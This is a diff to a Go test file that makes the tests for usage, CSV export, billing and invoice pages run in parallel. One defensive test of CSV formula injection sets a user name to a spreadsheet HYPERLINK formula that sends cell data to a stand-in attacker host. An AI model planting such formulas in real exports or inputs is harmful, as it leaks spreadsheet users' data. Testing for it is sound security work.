@@ -52,6 +52,7 @@ func newUsageOrg(t *testing.T, db *gorm.DB) usageOrg {
 }
 
 func TestUsagePageForAdministrator(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		r := f.ac.get("/settings/usage").status(http.StatusOK)
@@ -105,6 +106,7 @@ func TestUsagePageForAdministrator(t *testing.T) {
 }
 
 func TestUsagePageForRegularMember(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		r := f.mc.get("/settings/usage").status(http.StatusOK)
@@ -148,6 +150,7 @@ func TestUsagePageForRegularMember(t *testing.T) {
 }
 
 func TestUsagePageForPersonalAccount(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		app := newApp(t, db)
 		u, personal, c := app.user(t)
@@ -175,6 +178,7 @@ func TestUsagePageForPersonalAccount(t *testing.T) {
 }
 
 func TestUsagePageRanges(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		now := time.Now().UTC()
@@ -225,6 +229,7 @@ func readCSV(t *testing.T, body string) [][]string {
 }
 
 func TestUsageCSV(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		r := f.ac.get("/settings/usage.csv").status(http.StatusOK)
@@ -272,6 +277,7 @@ func TestUsageCSV(t *testing.T) {
 // spreadsheet formula gets the name exported as text, in the usage export
 // and in invoices.
 func TestCSVExportsCannotCarryFormulas(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		names := map[int64]string{f.admin.ID: `=HYPERLINK("https://evil.example/?"&A1,"Open")`, f.member.ID: "+1-555-0100"}
@@ -309,6 +315,7 @@ func TestCSVExportsCannotCarryFormulas(t *testing.T) {
 // Billing & Plan ---------------------------------------------------------------
 
 func TestBillingPageRoles(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		r := f.ac.get("/settings/billing").status(http.StatusOK)
@@ -360,6 +367,7 @@ func TestBillingPageRoles(t *testing.T) {
 // agreement: the page offers no switch, no upgrade advice and no request
 // for Enterprise, and a form from an older tab changes nothing.
 func TestBillingPageOnEnterprise(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		stale := f.ac.guard("/settings/billing") // a tab opened while on Free
@@ -400,6 +408,7 @@ func TestBillingPageOnEnterprise(t *testing.T) {
 // TestInvoiceHistoryIsPaginated: every closed invoice stays reachable from
 // the billing page, however many months the account has been billed.
 func TestInvoiceHistoryIsPaginated(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		const n = 37 // more than three years
@@ -454,6 +463,7 @@ func accountPlan(t testing.TB, db *gorm.DB, id int64) tenancy.Plan {
 }
 
 func TestBillingPlanChange(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		acct := f.org.AccountID()
@@ -508,6 +518,7 @@ func TestBillingPlanChange(t *testing.T) {
 }
 
 func TestBillingContactFormRefusesBadInput(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		good := url.Values{"email": {"billing@example.com"}, "company": {"Acme"}, "address": {"1 Main St"}, "vat_id": {"DE123456789"}}
@@ -558,6 +569,7 @@ func TestBillingContactFormRefusesBadInput(t *testing.T) {
 }
 
 func TestBillingEnterpriseForm(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		for _, form := range []url.Values{
@@ -620,6 +632,7 @@ func closedInvoice(t *testing.T, db *gorm.DB, f usageOrg) (string, billing.Month
 }
 
 func TestInvoicePages(t *testing.T) {
+	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		id, last := closedInvoice(t, db, f)
